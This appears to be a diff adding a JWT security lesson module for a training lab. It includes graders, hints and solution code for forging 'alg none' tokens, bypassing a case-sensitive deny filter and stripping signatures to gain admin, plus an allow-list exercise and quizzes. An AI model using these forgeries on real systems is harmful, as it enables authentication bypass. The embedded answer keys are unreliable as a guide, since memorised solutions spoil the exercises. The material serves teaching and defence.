@@ -1,0 +1,227 @@
+"""Lesson 10: alg none, deny lists, and signatures that are simply left out."""
+
+from __future__ import annotations
+
+from typing import Any
+
+from jwtlab.attacks import ATTACKS
+from jwtlab.exercises.forging import as_token, forged
+from jwtlab.exercises.model import Exercise, Lesson, NotYet, Option, Question, Wrong
+from jwtlab.exercises.safely import call
+from jwtlab.jose.token import decode
+
+_NONE = ATTACKS["alg-none"].scenario("none")
+_FILTERED = ATTACKS["alg-none"].scenario("None")
+_STRIPPED = ATTACKS["signature-stripped"].scenario("skipped")
+
+MINE = _NONE.good
+"""Mallory's own token, as the issuer made it."""
+
+
+def _judge_none(answer: Any) -> str:
+    text = as_token(answer)
+    if text.count(".") == 1:
+        raise Wrong("There is one dot. The third part is empty, but the dot before it stays.")
+    reading = forged(text, _NONE)
+    if reading.header is None or reading.header.get("alg") != "none":
+        raise Wrong("The weak verifier lets you in, but this exercise is about alg 'none', in small letters.")
+    if reading.signature:
+        raise Wrong("There is still a signature. A token with alg none ends with its second dot.")
+    if reading.claims != decode(MINE).claims | {"sub": "admin", "admin": True}:
+        raise Wrong("You are in. But other claims than sub and admin have changed; leave them as they were.")
+    return "You are the administrator, and no key was involved. STANDARD refuses it by algorithm-allowed."
+
+
+def _judge_filter(answer: Any) -> str:
+    reading = forged(answer, _FILTERED)
+    alg = (reading.header or {}).get("alg")
+    return (
+        f"The filter looks for 'none' and finds {alg!r}; the library reads both alike. "
+        "A list of bad words is never complete."
+    )
+
+
+def _judge_stripped(answer: Any) -> str:
+    reading = forged(answer, _STRIPPED)
+    if (reading.header or {}).get("alg") != "ES256":
+        raise Wrong("You are in, but the header has changed. Leave alg at ES256.")
+    return (
+        "A signature that is not there cannot be wrong, this verifier thinks. "
+        "STANDARD thinks otherwise: signature-valid."
+    )
+
+
+_HEADERS: tuple[tuple[dict[str, Any], list[str], bool, str], ...] = (
+    ({"alg": "ES256"}, ["ES256"], True, "ES256 stands in the list."),
+    ({"alg": "RS256"}, ["ES256", "RS256"], True, "The list may have several names."),
+    ({"alg": "none"}, ["ES256"], False, "none is not in the list."),
+    ({"alg": "nOnE"}, ["ES256"], False, "No spelling of none is in the list."),
+    ({"alg": "es256"}, ["ES256"], False, "Names are compared letter by letter; es256 is another name."),
+    ({"alg": "HS256"}, ["ES256"], False, "HS256 is a good algorithm, and not one of yours."),
+    ({}, ["ES256"], False, 'alg may be missing: header.get("alg").'),
+    ({"alg": None}, ["ES256"], False, "alg may be null."),
+    ({"alg": ["ES256"]}, ["ES256"], False, "alg may be a list; then it is no name."),
+    ({"alg": "ES"}, ["ES256"], False, "'ES' is only a piece of a name. Is your list a text by accident?"),
+    ({"alg": {"a": 1}}, ["ES256"], False, "alg may be anything that JSON has; a dict, say. Raise nothing."),
+    ({"alg": "ES256"}, [], False, "An empty list allows nothing."),
+)
+
+
+def _judge_rule(answer: Any) -> str:
+    if call(answer, {"alg": "ES256"}, ["ES256"]) in (None, ...):
+        raise NotYet
+    for header, allowed, expected, advice in _HEADERS:
+        found = call(answer, dict(header), list(allowed))
+        if found is not expected:
+            raise Wrong(
+                f"For {header} and the list {allowed} it should be {expected}; yours gives {found!r}. {advice}"
+            )
+    return "Twelve headers, and no word about none: a list of your own does not have to know the attack."
+
+
+LESSON = Lesson(
+    number="10",
+    name="10_alg_none",
+    title="alg none",
+    why="The oldest trick with tokens works wherever a verifier believes what a token says about itself.",
+    minutes=25,
+    needs=("05",),
+    exercises=(
+        Exercise(
+            "10.1",
+            "Become admin",
+            _judge_none,
+            (
+                "Three parts, as always: a header, a payload, and nothing. The cell above does nearly all of it.",
+                'The header is {"alg": "none"}; the claims are those of mine, with two exchanged.',
+                'part(header) + "." + part(claims) + "." : the token ends with a dot.',
+            ),
+            """\
+def part(value):
+    return base64url.encode(json.dumps(value).encode())
+
+claims = {**jwtlab.decode(mine).claims, "sub": "admin", "admin": True}
+answer = part({"alg": "none"}) + "." + part(claims) + "." """.rstrip(),
+        ),
+        Exercise(
+            "10.2",
+            "Slip past the filter",
+            _judge_filter,
+            (
+                "The filter compares with one spelling. Which others are there?",
+                "Capital letters: the library behind the filter does not mind them.",
+                'Write {"alg": "None"} into the header.',
+            ),
+            """\
+def part(value):
+    return base64url.encode(json.dumps(value).encode())
+
+claims = {**jwtlab.decode(mine).claims, "sub": "admin", "admin": True}
+answer = part({"alg": "nOnE"}) + "." + part(claims) + "." """.rstrip(),
+        ),
+        Exercise(
+            "10.3",
+            "Cut it off",
+            _judge_stripped,
+            (
+                "Which part does the code look at before it decides to verify?",
+                "Keep the first part of mine as it is, write a new second part, leave the third one empty.",
+                'header = mine.split(".")[0]; then header + "." + part(claims) + "."',
+            ),
+            """\
+def part(value):
+    return base64url.encode(json.dumps(value).encode())
+
+claims = {**jwtlab.decode(mine).claims, "sub": "admin", "admin": True}
+answer = mine.split(".")[0] + "." + part(claims) + "." """.rstrip(),
+        ),
+        Exercise(
+            "10.4",
+            "Write the rule",
+            _judge_rule,
+            (
+                "One line is enough, if nothing can raise in it.",
+                'header.get("alg") may be a list or a dict. Is it a text? isinstance(alg, str).',
+                "alg in allowed works for a list of names; it compares letter by letter.",
+            ),
+            """\
+def answer(header, allowed):
+    alg = header.get("alg")
+    return isinstance(alg, str) and alg in allowed""",
+        ),
+    ),
+    predictions=(
+        Question(
+            "10.p1",
+            "Mallory has her own token and no key. She wants the server to take her for the administrator. "
+            "What is the least that the server must do wrong?",
+            (
+                Option(
+                    "It must use a weak algorithm",
+                    "The algorithm may be as strong as it likes, if it is not used.",
+                ),
+                Option(
+                    "It must lose its private key",
+                    "With the key she could sign anything. It works without, as you will see.",
+                ),
+                Option(
+                    "It must let the token say how it is checked",
+                    "Then the token says: not at all.",
+                    True,
+                ),
+            ),
+        ),
+    ),
+    quiz=(
+        Question(
+            "10.q1",
+            "A verifier refuses tokens whose alg is 'none', 'None' or 'NONE'. Is it safe from this attack?",
+            (
+                Option("Yes, these are all spellings", "There are sixteen. nOnE is one more."),
+                Option(
+                    "No: a deny list has to know every trick in advance",
+                    "Turn it round: allow ES256, and every other word is refused, known or not.",
+                    True,
+                ),
+                Option(
+                    "Yes, if it uses HTTPS", "HTTPS protects the way. Mallory sends the forged token herself."
+                ),
+            ),
+        ),
+        Question(
+            "10.q2",
+            "Which of these calls of PyJWT is safe?",
+            (
+                Option(
+                    'jwt.decode(token, key, algorithms=[jwt.get_unverified_header(token)["alg"]])',
+                    "The list is taken from the token: it chooses how it is checked.",
+                ),
+                Option(
+                    'jwt.decode(token, key, algorithms=["ES256"])',
+                    "The list stands in your source, and the token has to fit it.",
+                    True,
+                ),
+                Option(
+                    'jwt.decode(token, options={"verify_signature": False})',
+                    "It says itself what it does not do. Good for looking, never for deciding.",
+                ),
+            ),
+        ),
+        Question(
+            "10.q3",
+            "Why does RFC 7518 define none at all?",
+            (
+                Option(
+                    "By mistake; it was withdrawn",
+                    "It is still there. RFC 8725 §3.2 says how carefully it is to be treated.",
+                ),
+                Option(
+                    "For tokens that are protected in another way",
+                    "For example inside an encrypted token. A verifier that does not expect that never allows it.",
+                    True,
+                ),
+                Option("For testing", "Tests are better done with a test key: then the check is tested too."),
+            ),
+        ),
+    ),
+)
